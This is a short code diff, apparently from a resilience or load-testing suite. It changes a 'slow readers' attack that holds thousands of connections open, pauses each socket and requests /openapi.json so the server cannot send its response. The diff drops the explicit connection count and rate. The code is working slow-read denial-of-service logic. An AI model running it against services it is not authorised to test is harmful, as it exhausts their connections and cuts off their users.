@@ -5,7 +5,7 @@ import { keepConnections } from './connections.ts'
 export const attack: Attack = {
   name: 'slow readers: 10,100 connections that never read their answer',
   async start({ url }) {
-    return keepConnections(url, { connections: 10_100, perSecond: 2_000 }, (socket) => {
+    return keepConnections(url, (socket) => {
       // The system keeps what it received: the window closes, and the service cannot send the rest.
       socket.pause()
       socket.write('GET /openapi.json HTTP/1.1\r\nHost: x\r\n\r\n')
